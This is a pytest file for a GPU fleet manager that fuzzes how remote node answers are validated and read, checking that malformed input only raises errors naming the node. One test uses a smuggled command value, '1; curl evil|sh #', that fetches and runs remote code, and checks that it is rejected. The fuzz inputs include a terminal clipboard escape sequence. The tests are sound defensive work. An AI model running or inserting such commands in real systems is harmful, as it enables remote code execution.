"""Whatever a node prints, its readers give a value or a sentence that names the node."""

from __future__ import annotations

import copy
import datetime as dt
import json
import random
import re
from contextlib import suppress
from typing import Any

import pytest
from pydantic import TypeAdapter, ValidationError

from gpufleet.errors import FleetError
from gpufleet.remote import answer_forms
from gpufleet.remote.answer_forms import form_problem
from gpufleet.remote.answer_shapes import Time
from tests.support.checkout import ROOT
from tests.unit.remote.answers import NODE, ROWS, Row

QUICK, LONG = 300, 10_000
STRANGE: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    3.5,
    1e300,
    -1e300,
    float("nan"),
    float("inf"),
    10**400,
    1 << 70,
    "",
    "abc",
    "1",
    "\ud800",
    "\x1b]52;c;aGk=\x07",
    "a" * 5000,
    [],
    [[]],
    [None],
    {},
    {"": None},
    {"missing": None},
    {"error": 3},
    {"schema": 1},
)
# Its output is read by pyinfra, and only whether it failed.
NOT_READ = {
    "converge/place_files",
    "converge/repository_key",
    "packages/transaction",
    "transfer/place_model",
}
# It answers to `remote.session`, and what is no answer ends it.
SESSION = {"remote/session"}
# `load_test.client_lines` reads their lines, `load_test.client_places` the group's messages: their
# tests are test_client_process.py and test_client_places.py in tests/unit/load_test.
LOAD = {"load/ceiling_server", "load/client", "load/client_group"}


def place(value: Any, chance: random.Random) -> tuple[Any, Any]:
    """Return an object or a list of a document, and a key of it; any depth is as likely."""
    inner, key = value, chance.choice(list(value))
    while chance.random() < 0.7:
        following = inner[key]
        if not isinstance(following, dict | list) or not following:
            break
        keys = list(following) if isinstance(following, dict) else range(len(following))
        inner, key = following, chance.choice(keys)
    return inner, key


def mutated(answer: dict[str, Any], chance: random.Random) -> dict[str, Any]:
    """Return an answer with one or two of its values replaced, removed or put elsewhere."""
    found = copy.deepcopy(answer)
    for _ in range(chance.choice((1, 1, 2))):
        inner, key = place(found, chance)
        match chance.randrange(5):
            case 0:
                del inner[key]
            case 1 if isinstance(inner, dict):
                added = chance.choice(("x", "", "missing", "error"))
                inner[added] = copy.deepcopy(chance.choice(STRANGE))
            case 2:
                inner[key] = [inner[key]]
            case _:
                inner[key] = copy.deepcopy(chance.choice(STRANGE))
        if not found:
            break
    return found


def broken(row: Row, times: int) -> list[str]:
    """Return what a reader raised other than a `FleetError` that names the node."""
    chance = random.Random(row.program)  # the same mutations in every run
    found = []
    for number in range(times):
        answer = mutated(row.answer, chance)
        problem = form_problem(row.program, answer)
        try:
            row.read(problem or answer)
        except FleetError as error:
            if NODE not in str(error) and "gpu-02" not in str(error):
                found.append(f"{row.program}: mutation {number} names no node: {error}")
        except Exception as error:  # noqa: BLE001
            found.append(f"{row.program}: mutation {number}: {type(error).__name__}: {error}")
    return found


def sent() -> set[str]:
    """Return the programs whose answers come back to the controller."""
    found: set[str] = set()
    for path in (ROOT / "src/gpufleet").rglob("*.py"):
        if "on_node" not in path.parts:
            found |= set(re.findall(r'program\(\s*"([a-z_]+/[a-z_]+)"', path.read_text()))
    return found


def test_every_program_that_answers_is_in_the_table() -> None:
    assert sent() - NOT_READ - SESSION - LOAD == {row.program.partition(" ")[0] for row in ROWS}


def test_every_form_is_of_a_program_in_the_table() -> None:
    named = {row.program for row in ROWS}
    assert set(answer_forms.FORMS) - named - {each.partition(" ")[0] for each in named} == set()


@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.program)
def test_a_recorded_answer_has_its_form_and_is_read(row: Row) -> None:
    again = json.loads(json.dumps(row.answer))
    assert form_problem(row.program, again) is None
    with suppress(FleetError):
        row.read(again)


def test_what_a_program_could_not_find_out_is_an_answer_too() -> None:
    """As the programs print it: a part that is missing, a unit that is not there, a failure."""
    missing = {"missing": "absent", "detail": "x"}
    recorded = {row.program: row.answer for row in ROWS}
    look = recorded["reach/preflight"]
    exporters = {"a": {"error": "OSError: x"}, "b": {"unit": None, "status": None, "error": None}}
    failed = {"schema": 1, "error": "it is held"}
    seldom: tuple[tuple[str, dict[str, Any]], ...] = (
        ("reach/preflight", {**look, "routes": {"gpu-02": missing}, "mtu": missing}),
        ("reach/preflight", {**look, "routes": missing, "files": missing, "release": missing}),
        ("reach/preflight", {**look, "used": {"29500": {"program": "x", "pid": 3, "unit": None}}}),
        ("serving/endpoints", {"schema": 1, "stages": {"a": {"error": "x"}}, "metrics": exporters}),
        ("change/change look", {"schema": 1, "problem": "units: systemd is away", "clock": 3.0}),
        ("common/unit_journal", {**recorded["common/unit_journal"], "here": missing}),
        ("common/unit_journal", {**recorded["common/unit_journal"], "lines": missing}),
        ("gpu_software/driver_reload look", failed),
        ("gpu_software/kernel_modules build", failed),
        ("network/firewall look", failed),
        ("probe/probe", {"stages": missing, "upgrade": missing, "cordon": missing}),
        ("probe/probe", {"stages": [missing, {"unit": "vllm-x.service", "foreign": True}]}),
        ("transfer/transfer fetch", failed),
    )
    assert [(name, said) for name, each in seldom if (said := form_problem(name, each))] == []


def test_no_mutated_answer_raises_anything_but_a_sentence_of_its_node() -> None:
    assert [each for row in ROWS for each in broken(row, QUICK)][:20] == []


@pytest.mark.long
@pytest.mark.timeout(3000)
def test_ten_thousand_mutations_of_each_answer_raise_nothing_else() -> None:
    assert [each for row in ROWS for each in broken(row, LONG)][:20] == []


def test_a_lock_whose_id_is_a_command_is_no_answer() -> None:
    lock = {"owner": "a", "from": "b", "since": 1.0, "what": "c", "id": "1; curl evil|sh #"}
    said = form_problem("probe/probe", {"upgrade": lock})
    assert said is not None
    assert "upgrade" in said


def test_every_time_that_is_taken_is_a_date():
    """Also that of a node whose clock begins in 1970; what reads it need not look."""
    form = TypeAdapter(Time)
    for seconds, year in ((0, 1970), (253402300799, 9999)):
        taken = form.validate_python(seconds, strict=True)
        assert dt.datetime.fromtimestamp(taken, dt.UTC).year == year
    for seconds in (-1, 253402300800):
        with pytest.raises(ValidationError):
            form.validate_python(seconds, strict=True)
